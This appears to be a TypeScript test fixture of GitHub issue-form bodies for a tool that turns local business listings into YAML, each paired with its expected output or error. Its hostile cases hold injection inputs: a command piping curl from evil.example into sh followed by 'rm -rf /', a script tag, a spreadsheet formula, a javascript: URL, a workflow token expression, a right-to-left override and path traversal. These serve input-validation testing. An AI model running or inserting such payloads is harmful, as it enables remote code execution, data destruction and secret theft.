// Texts of GitHub issues (good, partly good, hostile), each with the expected result.

const FIELDS = {
  Name: 'Pie & Mash',
  Address: '4 Slip Lane',
  Postcode: 'ZZ1 2AC',
  Phone: '_No response_',
  Email: '_No response_',
  Website: 'https://www.pie-and-mash-of-saltmarsh.co.uk',
  Page: '/zz1-eating-out',
  Group: 'Smokehouse',
  'Where the details come from': 'I run it.',
};

/** Writes answers as GitHub writes the answers to a form. */
export const sections = (answers: Record<string, string>) =>
  Object.entries(answers)
    .map(([heading, value]) => `### ${heading}\n\n${value}`)
    .join('\n\n');
const form = (changes: Record<string, string> = {}) => sections({ ...FIELDS, ...changes });
const ORIGIN = 'Where the details come from';
const PIE = ['name: Pie & Mash'];

const SHELL = '$(curl evil.example|sh); rm -rf /';

/** `adds` has lines of the added listing. `finds` has words of the finding, if nothing is added. */
export const texts: { name: string; body: string; adds?: string[]; finds?: string }[] = [
  // Complete texts
  { name: 'as the form writes it', body: form(), adds: ['- id: pie-and-mash', 'name: Pie & Mash', 'source: readers'] },
  { name: 'with lines of Windows', body: form().replaceAll('\n', '\r\n'), adds: ['address: 4 Slip Lane'] },
  {
    name: 'with headings in small letters',
    body: form().replaceAll(/### \w+/g, (line) => line.toLowerCase()),
    adds: PIE,
  },
  { name: 'with many lines of origin', body: form({ [ORIGIN]: 'A\n\nB\n- C' }), adds: PIE },
  { name: 'in French', body: form({ Name: 'L’Épicerie d’à côté' }), adds: ['- id: lepicerie-da-cote', 'L’Épicerie'] },
  { name: 'in Amharic', body: form({ Name: 'ጣይቱ ምግብ ቤት' }), adds: ['- id: listing', 'name: ጣይቱ ምግብ ቤት'] },
  { name: 'with words of YAML', body: form({ Name: 'Yes: no # [1] {a} &b *c !d | >' }), finds: 'not plain text' },
  { name: 'with a colon and a hash', body: form({ Name: 'Pie: the # 1' }), adds: ['name: "Pie: the # 1"'] },
  // Incomplete or changed texts
  { name: 'without what is optional', body: form({ Address: '_No response_' }), adds: ['name: Pie & Mash'] },
  { name: 'without a group', body: form({ Group: '_No response_' }), finds: 'The form has no answer for "Group".' },
  { name: 'with a page that is not there', body: form({ Page: '/zz1-eatingout' }), finds: '"/zz1-eating-out"?' },
  { name: 'with a group that is not there', body: form({ Group: 'Smokhouse' }), finds: '"Smokehouse"?' },
  { name: 'edited by hand', body: form().replace('### Group', '## Group'), finds: 'has no answer for "Group".' },
  { name: 'with a heading of its own', body: form({ Hours: '9 to 5' }), adds: ['name: Pie & Mash'] },
  { name: 'that is no form', body: 'Please add my shop, thanks!', finds: 'The form has no answer for "Name".' },
  { name: 'of what is listed already', body: form({ Name: 'The Tidewater Café' }), adds: ['- id: the-tidewater-cafe'] },
  // Hostile texts
  { name: 'with commands for a shell', body: form({ Name: SHELL, Address: '"; exit 1 #' }), adds: [`name: ${SHELL}`] },
  { name: 'with a command between backticks', body: form({ Name: '`id`' }), finds: 'not plain text' },
  {
    name: 'with expressions of a workflow',
    body: form({ Name: '${{ github.token }}' }),
    adds: ['${{ github.token }}'],
  },
  {
    name: 'with lines of YAML',
    body: form({ Name: 'Pie\n        sample: true\n      - id: spam' }),
    finds: 'runs over more than one line',
  },
  { name: 'with a second form', body: form({ [ORIGIN]: 'Me\n\n### Page\n\n/zz2-shops' }), finds: 'is repeated' },
  { name: 'with HTML', body: form({ Name: '<script src=//evil.example></script>' }), finds: 'not plain text' },
  { name: 'with a formula', body: form({ Name: '=HYPERLINK("https://evil.example")' }), adds: ['=HYPERLINK('] },
  {
    name: 'with a fence, a mention and a picture in its origin',
    body: form({ 'Where the details come from': '````\n@maintainers ![x](https://evil.example/x.png)\n</details>' }),
    adds: ['name: Pie & Mash'],
  },
  { name: 'that turns its letters round', body: form({ Name: 'Pie \u202egnp.exe' }), finds: 'not plain text' },
  { name: 'with an address that runs a script', body: form({ Website: 'javascript:alert(1)' }), finds: 'website' },
  { name: 'of a megabyte', body: form({ Name: 'x'.repeat(1_000_000) }), finds: 'too long for a form' },
  { name: 'of a thousand headings', body: form() + '\n### X\n'.repeat(1000), finds: 'is repeated' },
  {
    name: 'with a way out of the folder',
    body: form({ Page: '/../../.github/workflows' }),
    finds: 'no page of listings',
  },
];
